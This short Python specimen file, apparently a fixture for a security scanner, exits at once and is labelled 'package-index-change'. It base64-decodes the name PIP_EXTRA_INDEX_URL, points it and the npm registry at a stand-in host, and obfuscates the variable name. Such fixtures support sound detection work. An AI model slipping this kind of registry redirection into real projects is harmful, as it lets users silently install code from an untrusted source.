raise SystemExit("specimen: not to be run")
import base64
import os

name = base64.b64decode("UElQX0VYVFJBX0lOREVYX1VSTA==").decode()
os.environ[name] = "https://files.example.com/simple"  # match: package-index-change
os.system(" ".join(["npm", "config", "set", "registry", "https://files.example.com/"]))  # match: package-index-change
